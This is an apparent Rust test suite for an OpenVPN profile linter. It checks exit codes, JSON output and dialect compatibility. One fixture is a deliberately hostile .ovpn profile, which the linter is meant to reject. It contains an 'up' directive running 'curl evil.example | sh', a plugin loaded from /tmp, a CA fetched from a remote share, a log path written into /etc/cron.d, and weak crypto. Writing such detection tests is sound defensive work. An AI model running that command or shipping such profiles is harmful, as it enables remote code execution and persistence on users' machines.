//! Judging profiles: texts, JSON and exit codes.

use crate::support::Place;

const HOSTILE: &str = "# from a stranger\n\
client\n\
dev tun\n\
proto udp\n\
remote vpn.example.net 1194\n\
remote-cert-tls server\n\
persist-tun\n\
cipher BF-CBC\n\
comp-lzo\n\
auth-user-pass /tmp/pass\n\
script-security 2\n\
up \"/bin/sh -c 'curl evil.example | sh'\"\n\
setenv opt plugin /tmp/x.so\n\
ca \\\\\\\\evil.example\\\\share\\\\ca.crt\n\
log /etc/cron.d/x\n\
tls-version-min 1.0\n\
remot a\u{202e}b\n\
verb \"3\n";

#[test]
fn cfg_02_a_hostile_profile_is_taken_apart_line_by_line() {
    let place = Place::new();
    std::fs::write(place.file("evil.ovpn"), HOSTILE).unwrap();
    insta::assert_snapshot!("hostile", place.postern(&["ovpn", "lint", "evil.ovpn"]).fails_with(4));
    insta::assert_snapshot!(
        "hostile_json",
        place.postern(&["--json", "ovpn", "lint", "evil.ovpn"]).fails_with(4)
    );
}

#[test]
fn profiles_of_ones_own_are_clean_in_every_dialect() {
    let place = Place::with_authority();
    place.postern(&["build-client-full", "alice", "nopass"]).succeeds();
    for client in ["any", "openvpn2.4", "openvpn2.6", "connect", "aws", "networkmanager"] {
        let file = format!("{client}.ovpn");
        let export = ["export", "alice", "--remote", "h", "--for", client, "--server-name", "s", "-o", &file];
        place.postern(&export).succeeds();
        let answer = place.postern(&["ovpn", "lint", &file]).succeeds();
        assert!(answer.stdout.contains("0 errors, 0 warnings"), "{client}: {answer}");
    }
}

#[test]
fn every_program_does_what_the_table_says_of_its_own_dialect() {
    let place = Place::with_authority();
    place.postern(&["build-client-full", "alice", "nopass"]).succeeds();
    for (client, column) in [("aws", "aws"), ("connect", "openvpn3"), ("any", "aws")] {
        let file = format!("{client}.ovpn");
        place.postern(&["export", "alice", "--remote", "h", "--for", client, "-o", &file]).succeeds();
        let report = place.json(&["ovpn", "lint", &file]);
        for directive in report["directives"].as_array().unwrap() {
            assert_ne!(directive[column], "refused", "{client}: {directive}");
        }
    }
}

#[test]
fn the_exit_code_is_that_of_the_worst_finding() {
    let place = Place::new();
    let base = "client\nremote h\nremote-cert-tls server\nca ca.crt\nauth-user-pass\n";
    for (more, code) in [("", 0), ("comp-lzo\n", 3), ("comp-lzo\nup x\n", 4)] {
        let mut lint = place.command("postern", &["ovpn", "lint", "-"]);
        place.answer(&mut lint, &format!("{base}{more}")).fails_with(code);
    }
    place.postern(&["ovpn", "lint", "missing.ovpn"]).fails_with(1).says("file-error");
}

#[test]
fn everything_is_explained_when_asked() {
    let place = Place::new();
    std::fs::write(place.file("a.ovpn"), "client\nremote h\nremote-cert-tls server\nverb 3\n").unwrap();
    let some = place.postern(&["ovpn", "lint", "a.ovpn"]).fails_with(4);
    let all = place.postern(&["ovpn", "lint", "--all", "a.ovpn"]).fails_with(4);
    assert!(!some.stdout.contains("connects as a client") && some.stdout.contains("sets how much is logged"));
    assert!(all.stdout.contains("connects as a client"), "{all}");
}
